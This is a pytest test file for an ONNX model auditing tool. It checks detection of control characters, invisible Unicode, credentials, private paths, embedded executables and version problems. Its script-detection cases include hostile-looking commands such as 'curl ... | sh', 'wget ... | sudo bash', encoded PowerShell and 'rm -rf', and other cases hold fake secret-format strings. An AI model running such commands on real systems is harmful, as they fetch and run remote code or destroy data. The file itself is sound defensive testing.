"""TXT, PRV, HID, VER: strings, what is hidden in them and beside them, versions."""

from __future__ import annotations

import base64
import random
import re
import time
from collections.abc import Callable
from typing import Any

import numpy as np
import onnx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from onnx import TensorProto, helper, numpy_helper

from graphcount.auditing.rules import hid005_script, prv002_paths_hosts, prv003_addresses
from graphcount.credentials import CREDENTIALS as SECRETS

Change = Callable[[onnx.ModelProto], object]
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(100)


def rules(findings: list[Any]) -> list[tuple[str, str]]:
    return [(finding.rule, finding.severity) for finding in findings]


def named(name: str) -> Change:
    return lambda model: setattr(model.graph.node[0], "name", name)


def documented(text: str) -> Change:
    return lambda model: setattr(model, "doc_string", text)


def valued(text: str) -> Change:
    return lambda model: model.metadata_props.add(key="k", value=text)


def computing(text: str) -> Change:
    """A string the model computes with: an element of a string tensor."""

    def change(model: onnx.ModelProto) -> None:
        tensor = TensorProto(name="s", data_type=8, dims=[1], string_data=[text.encode()])
        model.graph.initializer.append(tensor)

    return change


def attribute(text: str | bytes) -> Change:
    def change(model: onnx.ModelProto) -> None:
        model.graph.node.append(helper.make_node("Op", [], [], domain="d", s=text))

    return change


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (named("layer.0/MatMul größe 日本"), []),
        (named("a\x1b[2K"), [("TXT001", "high")]),
        (named("a\nb"), [("TXT001", "medium")]),
        (named("a\tb"), [("TXT001", "medium")]),
        (named("a\x85b"), [("TXT001", "medium")]),
        (documented("line\nline\ttab\r\n"), []),
        (documented("a\x07b"), [("TXT001", "medium")]),
        (valued("a\x1b]0;title\x07"), [("TXT001", "high")]),
        (documented("\x1b[32mPASS\x1b[0m"), [("TXT001", "high")]),
        (computing("a\nb\x00"), []),
        (computing("\x1b[31mred"), [("TXT001", "low")]),
        (attribute("\x1b[31mred"), [("TXT001", "low")]),
        (named("we\u200bight"), [("TXT002", "medium")]),
        (named("a\u202eb"), [("TXT002", "medium")]),
        (named("a\U000e0041"), [("TXT002", "medium")]),
        (documented("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"), []),
        (documented("a\u202eb"), [("TXT002", "low")]),
        (named("n" * 1024), []),
        (named("n" * 1025), [("TXT003", "medium")]),
        (documented("word " * 1000), []),
        (lambda m: setattr(m.graph.node[1], "op_type", "R\u0435lu"), [("TXT005", "medium")]),
        (named("r\u0435lu"), [("TXT005", "low")]),
        (named("\uff52elu"), [("TXT005", "low")]),
        (named("привет"), []),
    ],
)
def test_characters(
    change: Change, expected: list[tuple[str, str]], audit: Any, plain: Any, write: Any
) -> None:
    assert rules(audit(write(plain(change)), "TXT")) == expected


def test_a_finding_says_where_and_one_finding_is_for_all(
    audit: Any, plain: Any, write: Any
) -> None:
    def change(model: onnx.ModelProto) -> None:
        for index in range(40):
            model.graph.node.append(helper.make_node("Relu", ["x"], [f"v\n{index}"]))

    path = write(plain(change))
    (finding,) = audit(path, "TXT001")
    assert finding.evidence["strings"] == 40
    assert finding.where["path"] == 'graph"main"/node[2]/output[0]'
    with open(path, "rb") as file:
        assert file.read()[finding.where["offset"] :].startswith(b"v\n0")


# ---------------------------------------------------------------------------------- searching text

PATTERNS = [
    *((c.what, c.pattern.encode(), tuple(start.encode() for start in c.starts)) for c in SECRETS),
    *prv002_paths_hosts.PATTERNS,
    *prv003_addresses.PATTERNS,
    ("a script", hid005_script.SCRIPT, hid005_script.NEEDS),
]


@pytest.mark.parametrize(("what", "pattern", "needs"), PATTERNS)
@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_what_a_pattern_needs_is_in_all_that_it_matches(
    what: str, pattern: bytes | re.Pattern[bytes], needs: tuple[bytes, ...], data: st.DataObject
) -> None:
    compiled = re.compile(pattern) if isinstance(pattern, bytes) else pattern
    greedy = compiled.pattern.replace(b"}+", b"}")  # what hypothesis can read
    text = data.draw(st.from_regex(re.compile(greedy, compiled.flags)))
    for match in compiled.finditer(text):
        found = match.group().lower() if compiled.flags & re.IGNORECASE else match.group()
        assert any(need in found for need in needs)


@pytest.mark.parametrize(
    "piece",
    [
        "A" * 1000 + " ",
        "://",
        "://a:",
        "://aaaa:bbbb",
        "AccountKey=",
        "sk_live_",
        "eyJ-",
        "eyJAAAAAAAAAA.",
        "curl ",
        "A" * 63 + " ",
        "a" * 64 + "@",
        "eval (",
    ],
)
def test_a_text_is_searched_in_time_proportional_to_its_length(
    piece: str, audit: Any, plain: Any, write: Any
) -> None:
    """A megabyte of beginnings that lead nowhere; backtracking took from 7 seconds to minutes."""
    path = write(plain(documented(piece * (10**6 // len(piece)))))
    start = time.process_time()
    audit(path)
    assert time.process_time() - start < 3


# ------------------------------------------------------------------------------------------ privacy

CREDENTIALS = {
    "AKIA" + "A1B2C3D4E5F6G7H8": "AWS",
    "gh" + "p_" + "a1B2" * 9: "GitHub",
    "hf" + "_" + "abCD" * 9: "Hugging Face",
    "-----BEGIN OPENSSH " + "PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----": "private",
    "AIza" + "Sy_-1" * 7: "Google",
    "npm" + "_" + "a1B2" * 9: "npm",
    "sk" + "_live_" + "a1B2" * 6: "Stripe",
    "Account" + "Key=" + "Ab1+" * 21 + "AA==": "Azure",
    "://" + "bob:hunter2secret" + "@": "URL",
}


@pytest.mark.parametrize("secret", CREDENTIALS)
@pytest.mark.parametrize("place", [named, documented, valued, computing])
def test_credentials_are_found_and_not_repeated(
    secret: str, place: Callable[[str], Change], audit: Any, plain: Any, write: Any
) -> None:
    (finding,) = audit(write(plain(place(f"key={secret} "))), "PRV001")
    medium = ("URL", "AWS")
    assert finding.severity == ("medium" if CREDENTIALS[secret] in medium else "high")
    assert CREDENTIALS[secret] in finding.message
    assert secret[4:] not in str(finding)


def test_a_password_in_a_url_is_shown_by_no_rule(audit: Any, plain: Any, write: Any) -> None:
    found = audit(write(plain(valued("from https://bob:hunter2secret@host.example/x"))), "PRV")
    assert rules(found) == [("PRV001", "medium"), ("PRV003", "info")]
    assert "hunter2" not in str(found)
    assert "host.example" in str(found)


@pytest.mark.parametrize(
    "text",
    [
        *("AKIA", "ghp_short", "hf_model_name", "a public key", "sk-learn", "0123abcd" * 8),
        *("sk-learn-logistic-regression-pipeline", "sk-learn_pipeline_2_of_many_models"),
        *("npm_install", "sk_live_demo", "AccountKey=none", "git://h:9418", "{user}:{password}@"),
    ],
)
def test_what_only_looks_like_a_credential(text: str, audit: Any, plain: Any, write: Any) -> None:
    assert audit(write(plain(documented(text))), "PRV") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("/home/alice/project/train.py(12): forward", [("PRV002", "low")]),
        ("/Users/bob/x", [("PRV002", "low")]),
        ("/home/runner/work/project/train.py", []),
        ("C:\\Users\\runneradmin\\model.pt", []),
        ("/home/runners/x", [("PRV002", "low")]),
        ("C:\\Users\\carol\\model.pt", [("PRV002", "low")]),
        ("\\\\server\\share\\x", [("PRV002", "low")]),
        ("trained at 10.1.2.3", [("PRV002", "low")]),
        ("on host ml-07", [("PRV002", "low")]),
        ("build.example.internal", [("PRV002", "low")]),
        ("com.ms.internal.nhwc", []),
        ("/usr/lib/python3/x.py", []),
        ("/encoder/home/MatMul", []),
        ("version 10.1.2", []),
        ("version 110.1.2.3.4", []),
        ("see https://example.org/x", [("PRV003", "info")]),
        ("by someone@example.org", [("PRV003", "info")]),
        ("a@b", []),
        ("x://y", []),
    ],
)
def test_paths_and_addresses(
    text: str, expected: list[tuple[str, str]], audit: Any, plain: Any, write: Any
) -> None:
    assert rules(audit(write(plain(valued(text))), "PRV")) == expected


# ------------------------------------------------------------------------------------------- hidden


def test_a_program_in_a_tensor(audit: Any, plain: Any, write: Any, add: Any) -> None:
    tensor = numpy_helper.from_array(np.frombuffer(ELF, np.uint8), "blob")
    path = write(plain(add(tensor)))
    (finding,) = audit(path, "HID")
    assert (finding.rule, finding.severity) == ("HID001", "high")
    with open(path, "rb") as file:
        assert file.read()[finding.evidence["payload_offset"] :].startswith(ELF)
    assert audit(path, "HID", deep=False) == []
    looks_alike = numpy_helper.from_array(np.frombuffer(b"\x7fELF" + bytes(120), np.uint8), "b")
    assert audit(write(plain(add(looks_alike))), "HID") == []


def test_a_program_behind_the_last_number(audit: Any, plain: Any, write: Any, add: Any) -> None:
    tensor = TensorProto(name="t", data_type=1, dims=[3], raw_data=bytes(12) + ELF)
    (finding,) = audit(write(plain(add(tensor))), "HID")
    assert (finding.rule, finding.severity) == ("HID001", "high")


@pytest.mark.parametrize(
    ("change", "severity"),
    [
        (attribute(ELF), "high"),
        (valued(base64.b64encode(ELF).decode()), "medium"),
        (documented(f"data:;base64,{base64.b64encode(ELF).decode()}"), "medium"),
        (documented("MZ and the PE header are parts of a Windows program"), None),
        (valued(base64.b64encode(bytes(range(60, 160))).decode()), None),
        (attribute(b"c__main__\nno pickle"), None),
    ],
)
def test_programs_in_strings(
    change: Change, severity: str | None, audit: Any, plain: Any, write: Any
) -> None:
    found = audit(write(plain(change)), "HID001")
    assert [f.severity for f in found] == ([severity] if severity else [])


def test_a_program_in_an_unknown_field_of_the_graph(
    audit: Any, plain: Any, write: Any, raw: Any
) -> None:
    data = plain().SerializeToString() + raw.field(7, raw.field(500, ELF))
    assert rules(audit(write(data), "HID")) == [("HID001", "high")]


def test_large_text_and_blobs(audit: Any, plain: Any, write: Any) -> None:
    rng = random.Random(1)
    blob = base64.b64encode(rng.randbytes(800)).decode()
    lines = "\n".join(base64.b64encode(rng.randbytes(57)).decode() for _ in range(20)) + "\n"
    words = "\n".join("".join(rng.choices("abcdefgh", k=8)) for _ in range(500))
    for text, expected in (
        ("x " * 2**19 + "x", [("HID002", "low")]),
        ("x " * 2**18, []),
        (f"a {blob} b", [("HID002", "medium")]),
        (lines, [("HID002", "medium")]),
        (words, []),
        ("-" * 3000, []),
        ("".join(rng.choices("0123456789abcdef", k=1100)), [("HID002", "medium")]),
    ):
        assert rules(audit(write(plain(documented(text))), "HID")) == expected


def test_a_doc_string_that_a_large_file_leaves_out(
    audit: Any, plain: Any, write: Any, raw: Any
) -> None:
    data = plain().SerializeToString() + raw.field(6, b"d" * (33 * 2**20))
    (finding,) = audit(write(data), "HID002", select=["HID002"])
    assert (finding.severity, finding.evidence["nbytes"]) == ("low", 33 * 2**20)


def test_unknown_payload_says_how_random_it_is(
    audit: Any, plain: Any, write: Any, raw: Any
) -> None:
    data = plain().SerializeToString()
    noise = random.Random(2).randbytes(70_000)
    (finding,) = audit(write(data + raw.field(1000, noise)), "HID")
    assert (finding.rule, finding.severity) == ("HID003", "medium")
    assert finding.evidence["bits_per_byte"] > 7.9
    (finding,) = audit(write(data + raw.field(1000, bytes(2000))), "HID")
    assert finding.evidence["bits_per_byte"] == 0
    assert audit(write(data + raw.field(1000, noise[:1024])), "HID") == []


@pytest.mark.parametrize(
    ("text", "is_script"),
    [
        ("#!/bin/bash\nrm -rf x", True),
        ("import os; os.system('id')", True),
        ("subprocess.Popen(['id'])", True),
        ("exec(base64.b64decode(x))", True),
        ("__import__('os')", True),
        ("curl http://x.example/a | sh", True),
        ("wget -q http://x.example/a | sudo bash", True),
        ("powershell -nop -enc SQBFAFgA", True),
        ("<script>alert(1)</script>", True),
        ("model.eval()\nreturn self.fc(x)", False),
        ("def forward(self, x): exec = 1", False),
        ("curl and wget are programs", False),
        ("describe the script", False),
    ],
)
def test_scripts(text: str, is_script: bool, audit: Any, plain: Any, write: Any) -> None:
    found = rules(audit(write(plain(valued(text))), "HID005"))
    assert found == ([("HID005", "medium")] if is_script else [])


# ----------------------------------------------------------------------------------------- versions


@pytest.mark.parametrize(
    ("ir", "opsets", "expected"),
    [
        (10, [("", 20)], []),
        (3, [("", 7), ("ai.onnx.ml", 1)], []),
        (2, [], []),
        (0, [("", 20)], [("VER001", "high")]),
        (9999, [("", 20)], [("VER001", "high")]),
        (15, [("", 20)], [("VER001", "medium")]),
        (10, [], [("VER002", "high")]),
        (10, [("", 0)], [("VER002", "medium")]),
        (10, [("", -5)], [("VER002", "medium")]),
        (10, [("", 99)], [("VER003", "low")]),
        (10, [("com.example", 99)], []),
        (10, [("", 11), ("", 20)], [("VER004", "medium")]),
        (10, [("", 11), ("ai.onnx", 20)], [("VER004", "medium")]),
        (10, [("", 20), ("ai.onnx", 20)], [("VER004", "low")]),
    ],
)
def test_versions(
    ir: int,
    opsets: list[tuple[str, int]],
    expected: list[tuple[str, str]],
    audit: Any,
    plain: Any,
    write: Any,
) -> None:
    def change(model: onnx.ModelProto) -> None:
        model.ir_version = ir
        del model.opset_import[:]
        model.opset_import.extend(helper.make_opsetid(*opset) for opset in opsets)

    assert rules(audit(write(plain(change)), "VER")) == expected
